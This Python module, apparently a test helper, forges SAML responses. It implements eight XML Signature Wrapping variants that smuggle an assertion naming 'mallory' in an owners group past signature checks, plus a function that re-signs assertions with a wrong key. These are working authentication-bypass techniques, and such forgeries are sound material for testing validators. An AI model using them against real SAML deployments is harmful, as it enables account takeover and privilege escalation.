"""Forgeries made from a real SAML answer: wrapped, cut short, signed again by the wrong hand."""

import base64
import copy
from collections.abc import Callable
from typing import Any

import xmlsec
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from lxml import etree

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"saml": SAML, "samlp": PROTOCOL, "ds": DS}

Tree = Any
Change = Callable[[Tree], Tree | None]


def read(answer: str) -> Tree:
    return etree.fromstring(base64.b64decode(answer))


def write(root: Tree) -> str:
    return base64.b64encode(etree.tostring(root)).decode()


def one(root: Tree, path: str) -> Tree:
    found = root.xpath(path, namespaces=NS)
    assert found, path
    return found[0]


def assertion_of(root: Tree) -> Tree:
    return one(root, "/samlp:Response/saml:Assertion")


def become_owner(element: Tree) -> None:
    """What the forger wants: another person, in the owners' group."""
    for name in element.xpath(".//saml:NameID", namespaces=NS):
        name.text = "mallory"
    for value in element.xpath(
        ".//saml:Attribute[@Name='groups']/saml:AttributeValue", namespaces=NS
    ):
        value.text = "loyalty-owners"


def unsigned(element: Tree) -> Tree:
    """A copy without signatures."""
    made = copy.deepcopy(element)
    for signature in made.xpath(".//ds:Signature", namespaces=NS):
        signature.getparent().remove(signature)
    return made


def evil_copy(element: Tree) -> Tree:
    made = unsigned(element)
    made.set("ID", "_evil")
    become_owner(made)
    return made


def in_object(signature: Tree, element: Tree) -> None:
    etree.SubElement(signature, f"{{{DS}}}Object").append(element)


def xsw1(root: Tree) -> Tree:
    """A forged answer around the signed one, which hides in the signature's object."""
    forged = evil_copy(root)
    signature = copy.deepcopy(one(root, "/samlp:Response/ds:Signature"))
    forged.insert(1, signature)
    in_object(signature, unsigned(root))
    return forged


def xsw2(root: Tree) -> Tree:
    """As the first, with the signed answer before its signature."""
    forged = evil_copy(root)
    forged.insert(1, unsigned(root))
    forged.insert(2, copy.deepcopy(one(root, "/samlp:Response/ds:Signature")))
    return forged


def xsw3(root: Tree) -> None:
    """A forged assertion before the signed one."""
    signed = assertion_of(root)
    signed.addprevious(evil_copy(signed))


def xsw4(root: Tree) -> None:
    """A forged assertion around the signed one."""
    signed = assertion_of(root)
    forged = evil_copy(signed)
    signed.addprevious(forged)
    forged.append(signed)


def xsw5(root: Tree) -> None:
    """The forged assertion keeps the signature; the signed one follows without it."""
    signed = assertion_of(root)
    kept = unsigned(signed)
    signed.set("ID", "_evil")
    become_owner(signed)
    root.append(kept)


def xsw6(root: Tree) -> None:
    """The forged assertion's signature holds the signed one."""
    signed = assertion_of(root)
    kept = unsigned(signed)
    signed.set("ID", "_evil")
    become_owner(signed)
    one(signed, "./ds:Signature").append(kept)


def xsw7(root: Tree) -> None:
    """A forged assertion with the same id among the extensions."""
    signed = assertion_of(root)
    forged = unsigned(signed)
    become_owner(forged)
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(forged)
    one(root, "/samlp:Response/saml:Issuer").addnext(extensions)


def xsw8(root: Tree) -> None:
    """The forged assertion's signature holds the signed one in an object, under the same id."""
    signed = assertion_of(root)
    kept = unsigned(signed)
    become_owner(signed)
    in_object(one(signed, "./ds:Signature"), kept)


WRAPPINGS: dict[str, Change] = {
    f.__name__: f for f in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}


def sign(root: Tree, key: RSAPrivateKey, *, sha1: bool = False, name_key: str = "") -> None:
    """Sign the assertion anew, as a provider with this key would."""
    assertion = assertion_of(root)
    for old in root.xpath("//ds:Signature", namespaces=NS):
        old.getparent().remove(old)
    method = xmlsec.Transform.RSA_SHA1 if sha1 else xmlsec.Transform.RSA_SHA256
    digest = xmlsec.Transform.SHA1 if sha1 else xmlsec.Transform.SHA256
    signature = xmlsec.template.create(assertion, xmlsec.Transform.EXCL_C14N, method, ns="ds")
    reference = xmlsec.template.add_reference(signature, digest, uri=f"#{assertion.get('ID')}")
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
    if name_key:
        info = xmlsec.template.ensure_key_info(signature)
        data = etree.SubElement(info, f"{{{DS}}}X509Data")
        etree.SubElement(data, f"{{{DS}}}X509Certificate").text = name_key
    one(assertion, "./saml:Issuer").addnext(signature)
    xmlsec.tree.add_ids(assertion, ["ID"])
    context = xmlsec.SignatureContext()
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    context.key = xmlsec.Key.from_memory(pem, xmlsec.KeyFormat.PEM)
    context.sign(signature)
